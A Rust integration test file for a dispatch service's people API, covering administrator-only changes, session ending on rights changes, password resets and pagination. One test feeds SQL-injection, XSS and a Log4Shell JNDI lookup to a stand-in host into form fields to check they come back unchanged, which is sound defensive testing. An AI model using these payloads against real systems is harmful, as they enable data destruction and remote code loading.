//! People as administrators keep them.

use dispatch_service::access::Role;
use http::Method;
use serde_json::{Value, json};

use super::{Browser, PASSWORD, add, log_in, try_log_in};
use crate::support::cluster::backends;
use crate::support::desk::Desk;

fn put(desk: &Desk, who: &Browser, name: &str, change: &Value) -> u16 {
    let path = format!("/api/v1/people/{name}");
    let ask = who.ask(desk, Method::PUT, &path);
    ask.json(change).send().status
}

fn rights(roles: &[&str]) -> Value {
    json!({
        "shown": "某人", "roles": roles, "department": "", "region": "", "officer": "",
        "disabled": false,
    })
}

#[test]
fn every_text_comes_back_as_it_was() {
    for place in backends() {
        let desk = Desk::new(place);
        add(&desk, "admin", &[Role::Administrator]);
        let admin = log_in(&desk, "admin");
        let texts = [
            "'; DROP TABLE person; --",
            "<script>alert(1)</script>",
            "\" OR \"\"=\"",
            "?1 $1 %s {} \\u0041 \\",
            "&lt;b&gt; ＜b＞ 𠮷野家 é",
            "${jndi:ldap://evil.example/a}",
        ];
        for (number, text) in texts.iter().enumerate() {
            let name = format!("person-{number}");
            let new = json!({
                "name": name, "shown": text, "roles": ["dispatcher"], "department": text,
                "region": text,
            });
            let ask = admin.ask(&desk, Method::POST, "/api/v1/people").json(&new);
            let told = ask.send().expect(201);
            assert_eq!(told.header("content-type"), "application/json");
            assert_eq!(told.header("x-content-type-options"), "nosniff");
            let path = format!("/api/v1/people/{name}");
            let seen: Value = admin.ask(&desk, Method::GET, &path).send().json();
            assert_eq!(seen, told.json::<Value>());
            for field in ["shown", "department", "region"] {
                assert_eq!(seen[field], *text);
            }
            let token = json!({"label": text, "scopes": ["read"], "days": 1});
            let ask = admin
                .ask(&desk, Method::POST, "/api/v1/tokens")
                .json(&token);
            let made: Value = ask.send().expect(201).json();
            assert_eq!(made["details"]["label"], *text);
            // And in the audit trail.
            let path = format!(
                "/api/v1/audit?target={}",
                made["details"]["id"].as_str().unwrap()
            );
            let trail: Value = admin.ask(&desk, Method::GET, &path).send().json();
            assert_eq!(trail["records"][0]["detail"], *text);
        }
        let all: Value = admin
            .ask(&desk, Method::GET, "/api/v1/people")
            .send()
            .json();
        assert_eq!(all["people"].as_array().unwrap().len(), 1 + texts.len());
        // What cannot be stored everywhere is refused, not changed.
        for bad in ["a\u{0}b", "a\nb", "\u{7f}", "", &"长".repeat(65)] {
            let new = json!({"name": "eve", "shown": bad, "roles": []});
            let ask = admin.ask(&desk, Method::POST, "/api/v1/people");
            ask.json(&new).send().expect(422);
        }
        for bad in [
            "a",
            "A.b",
            "-ab",
            "a b",
            "a'b",
            "王五",
            "a\u{0}",
            &"a".repeat(65),
        ] {
            let new = json!({"name": bad, "shown": "x", "roles": []});
            let ask = admin.ask(&desk, Method::POST, "/api/v1/people");
            ask.json(&new).send().expect(422);
        }
    }
}

#[test]
fn only_administrators_change_people_and_readers_see_them() {
    for place in backends() {
        let desk = Desk::new(place);
        add(&desk, "admin", &[Role::Administrator]);
        add(&desk, "super", &[Role::Supervisor]);
        let others = [
            Role::Operator,
            Role::Approver,
            Role::Dispatcher,
            Role::Officer,
        ];
        for role in others {
            add(&desk, role.word(), &[role]);
        }
        let new = json!({"name": "eve", "shown": "夏", "roles": ["administrator"]});
        let reset = json!({"new": "another long password"});
        for name in ["super", "operator", "approver", "dispatcher", "officer"] {
            let who = log_in(&desk, name);
            let ask = |method, path| who.ask(&desk, method, path);
            ask(Method::POST, "/api/v1/people")
                .json(&new)
                .send()
                .expect(403);
            assert_eq!(put(&desk, &who, name, &rights(&["administrator"])), 403);
            let path = "/api/v1/people/admin/password";
            ask(Method::POST, path).json(&reset).send().expect(403);
            let sees = if name == "super" { 200 } else { 403 };
            for path in [
                "/api/v1/people",
                "/api/v1/people/admin",
                "/api/v1/tokens?person=admin",
                "/api/v1/audit",
            ] {
                ask(Method::GET, path).send().expect(sees);
            }
            let own = format!("/api/v1/people/{name}");
            who.ask(&desk, Method::GET, &own).send().expect(200);
        }
        for path in [
            "/api/v1/people",
            "/api/v1/session",
            "/api/v1/tokens",
            "/api/v1/audit",
        ] {
            desk.ask(Method::GET, path).shown().send().expect(401);
        }
        let admin = log_in(&desk, "admin");
        let ask = admin.ask(&desk, Method::POST, "/api/v1/people");
        ask.json(&new).send().expect(201);
        let ask = admin.ask(&desk, Method::POST, "/api/v1/people");
        ask.json(&new).send().expect(409);
    }
}

#[test]
fn a_change_of_rights_ends_sessions_and_one_of_the_shown_name_does_not() {
    for place in backends() {
        let desk = Desk::new(place);
        add(&desk, "admin", &[Role::Administrator]);
        let admin = log_in(&desk, "admin");
        let mut last = rights(&["operator"]);
        let changes = [
            ("shown", json!("另一个名字"), 200),
            ("roles", json!(["operator", "approver"]), 401),
            ("department", json!("食品科"), 401),
            ("region", json!("4401"), 401),
            ("disabled", json!(true), 401),
        ];
        add(&desk, "wang", &[Role::Operator]);
        for (field, value, after) in changes {
            let wang = log_in(&desk, "wang");
            last[field] = value;
            assert_eq!(put(&desk, &admin, "wang", &last), 200);
            wang.who(&desk).expect(after);
        }
        try_log_in(&desk, "wang", PASSWORD).expect(401);
    }
}

#[test]
fn the_last_administrator_stays() {
    for place in backends() {
        let desk = Desk::new(place);
        add(&desk, "admin", &[Role::Administrator]);
        let admin = log_in(&desk, "admin");
        assert_eq!(put(&desk, &admin, "admin", &rights(&["operator"])), 409);
        let mut out = rights(&["administrator"]);
        out["disabled"] = true.into();
        assert_eq!(put(&desk, &admin, "admin", &out), 409);
        add(&desk, "second", &[Role::Administrator]);
        assert_eq!(put(&desk, &admin, "second", &out), 200);
        // One that is disabled does not count.
        assert_eq!(put(&desk, &admin, "admin", &rights(&["operator"])), 409);
        add(&desk, "third", &[Role::Administrator]);
        assert_eq!(put(&desk, &admin, "admin", &rights(&["operator"])), 200);
        assert_eq!(put(&desk, &log_in(&desk, "third"), "nobody", &out), 404);
    }
}

#[test]
fn officers_have_an_id_and_others_have_none() {
    for place in backends() {
        let desk = Desk::new(place);
        add(&desk, "admin", &[Role::Administrator]);
        let admin = log_in(&desk, "admin");
        for (roles, officer, status) in [
            (json!(["officer"]), "", 422),
            (json!(["operator"]), "F-1", 422),
            (json!(["officer"]), "F 1", 422),
            (json!(["officer"]), "F-1", 201),
        ] {
            let new = json!({"name": "zhao", "shown": "赵", "roles": roles, "officer": officer});
            let ask = admin.ask(&desk, Method::POST, "/api/v1/people");
            ask.json(&new).send().expect(status);
        }
    }
}

#[test]
fn the_own_password_needs_the_old_one_and_ends_all_sessions() {
    for place in backends() {
        let desk = Desk::new(place);
        add(&desk, "admin", &[Role::Administrator]);
        add(&desk, "wang", &[Role::Operator]);
        let (wang, elsewhere) = (log_in(&desk, "wang"), log_in(&desk, "wang"));
        let path = "/api/v1/people/wang/password";
        let post = |who: &Browser, body: &Value| {
            who.ask(&desk, Method::POST, path).json(body).send().status
        };
        let new = "another long password";
        assert_eq!(post(&wang, &json!({"new": new})), 401);
        assert_eq!(post(&wang, &json!({"old": "wrong", "new": new})), 401);
        assert_eq!(post(&wang, &json!({"old": PASSWORD, "new": "short"})), 422);
        assert_eq!(post(&wang, &json!({"old": PASSWORD, "new": new})), 204);
        wang.who(&desk).expect(401);
        elsewhere.who(&desk).expect(401);
        try_log_in(&desk, "wang", PASSWORD).expect(401);
        let wang = Browser::of(&try_log_in(&desk, "wang", new).expect(200));
        // An administrator needs no old one, for others.
        let admin = log_in(&desk, "admin");
        assert_eq!(post(&admin, &json!({"new": "a third long password"})), 204);
        wang.who(&desk).expect(401);
        try_log_in(&desk, "wang", "a third long password").expect(200);
        let own = "/api/v1/people/admin/password";
        let ask = admin.ask(&desk, Method::POST, own);
        ask.json(&json!({"new": new})).send().expect(401);
        // Guessing the old one in an open session locks as a login does.
        let wang = Browser::of(&try_log_in(&desk, "wang", "a third long password").expect(200));
        for _ in 0..5 {
            assert_eq!(post(&wang, &json!({"old": "wrong", "new": new})), 401);
        }
        let right = json!({"old": "a third long password", "new": new});
        assert_eq!(post(&wang, &right), 401);
    }
}

#[test]
fn people_are_listed_page_by_page() {
    for place in backends() {
        let desk = Desk::new(place);
        for name in ["a1", "a2", "a3", "a4", "zz"] {
            add(&desk, name, &[Role::Supervisor]);
        }
        let who = log_in(&desk, "zz");
        let mut seen = Vec::new();
        let mut path = "/api/v1/people?limit=2".to_owned();
        loop {
            let page: Value = who.ask(&desk, Method::GET, &path).send().expect(200).json();
            let people = page["people"].as_array().unwrap();
            assert!((1..=2).contains(&people.len()));
            seen.extend(
                people
                    .iter()
                    .map(|one| one["name"].as_str().unwrap().to_owned()),
            );
            let Some(next) = page["next"].as_str() else {
                break;
            };
            path = format!("/api/v1/people?limit=2&after={next}");
        }
        assert_eq!(seen, ["a1", "a2", "a3", "a4", "zz"]);
    }
}
